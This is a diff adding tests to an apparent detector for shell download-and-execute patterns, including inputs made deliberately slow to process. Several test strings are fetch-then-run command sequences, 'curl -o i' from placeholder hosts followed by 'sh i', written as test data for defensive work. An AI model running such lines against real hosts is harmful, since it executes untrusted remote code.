@@ -238,6 +238,9 @@ def test_what_was_seen_running_has_the_same_words() -> None:
     assert seen("curl -fsS https://x.invalid/health") is None
 
 
+SAVED = "".join(f"RUN curl -o {c}{c} http://x.invalid/{c}{c}\n" for c in "abcdefghijklmnopqrs")
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -249,6 +252,9 @@ def test_what_was_seen_running_has_the_same_words() -> None:
         "curl -o f x\n" + "sh -a " * 4000 + "f",
         "'\"" * 8000 + "# curl",
         ")|sh;" * 4000,
+        SAVED + "RUN " + "chmod x " * 3900 + "qaabbcc q",
+        SAVED + "RUN " + "sh -sh " * 4600 + "qaa",
+        SAVED + "RUN " + "sh a/" * 6000 + "qaa",
     ],
 )
 def test_texts_made_to_be_slow(text: str) -> None:
@@ -264,3 +270,17 @@ def test_the_last_of_many_names_is_found() -> None:
     assert [(one.how, one.first, one.address) for one in found] == [
         ("substituted", 202, "https://x.invalid/i")
     ]
+
+
+def test_any_number_of_saved_files() -> None:
+    """Those that are never run hide none that is."""
+    many = "".join(f"curl -o f{n} https://x.invalid/{n}\n" for n in range(200))
+    (one,) = in_text(many + "curl -o i https://x.invalid/i\nsh i\n")
+    assert (one.how, one.first, one.last) == ("run", 201, 202)
+
+
+def test_one_name_saved_twice() -> None:
+    (one,) = in_text("curl -o i http://203.0.113.5/i\ncurl -o i https://get.docker.com\nsh i\n")
+    assert one.place is Place.DOUBTFUL
+    assert len(in_text("curl -o i https://x.invalid/i\nchmod -R u+x,go-w a i b")) == 1
+    assert in_text("curl -o i https://x.invalid/i\nchmod 644 i\nchmod 755 j; ls i") == []
